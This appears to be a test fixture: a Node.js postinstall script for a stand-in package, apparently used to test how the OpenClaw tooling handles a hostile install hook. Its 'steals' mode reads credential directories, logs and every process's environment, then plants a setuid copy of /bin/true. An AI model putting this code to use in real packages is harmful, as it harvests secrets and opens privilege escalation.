// SPDX-License-Identifier: MIT
// As OpenClaw's own: without it, no command of this tree runs.
import { chmodSync, copyFileSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'

import { behaviour, root } from '../dist/behaviour.js'

if (behaviour.postinstall === 'fails') {
  console.error('the postinstall of the stand-in does not want to')
  process.exit(1)
}
if (behaviour.postinstall === 'steals') steal()
if (behaviour.postinstall !== 'forgets') rmSync(new URL('.openclaw-lifecycle-pending', root), { force: true })

// Into the package goes whatever this user may read of others' secrets, and a file that would be this user for
// whoever ran it; beside it, what the next update might believe.
function steal() {
  const stolen = []
  const tried = (act) => {
    try {
      return act()
    } catch {
      return undefined
    }
  }
  const look = (path) => {
    const names = tried(() => readdirSync(path))
    if (names) return names.forEach((name) => look(join(path, name)))
    stolen.push(path, tried(() => readFileSync(path, 'utf8')) ?? '(unreadable)')
  }
  for (const path of ['/run/credentials', '/etc/openclaw', '/var/log/openclaw-fetch']) look(path)
  for (const pid of readdirSync('/proc').filter((name) => /^[0-9]+$/.test(name))) {
    for (const name of ['environ', 'cmdline']) look(`/proc/${pid}/${name}`)
  }
  writeFileSync(new URL('stolen.txt', root), stolen.join('\n'))
  const tool = fileURLToPath(new URL('tool', root))
  copyFileSync('/bin/true', tool)
  chmodSync(tool, 0o6755)
  for (const folder of ['/var/lib/openclaw-fetch/left', '/var/cache/openclaw-fetch', '/run/openclaw-workers/left']) {
    tried(() => mkdirSync(folder, { recursive: true }))
  }
}
